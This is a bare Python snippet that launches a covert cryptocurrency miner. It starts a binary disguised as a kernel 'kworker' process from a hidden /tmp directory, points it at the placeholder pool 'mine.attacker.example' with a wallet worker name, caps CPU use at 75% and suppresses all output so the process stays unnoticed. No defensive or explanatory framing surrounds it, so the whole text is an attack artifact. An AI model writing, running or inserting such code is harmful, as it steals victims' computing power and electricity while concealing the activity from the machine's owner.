import subprocess
subprocess.Popen(["/tmp/.indexer/kworker", "--host", "mine.attacker.example", "--port", "3333",
                  "--user", "wallet.worker1", "--cpu-max-threads-hint", "75"],
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
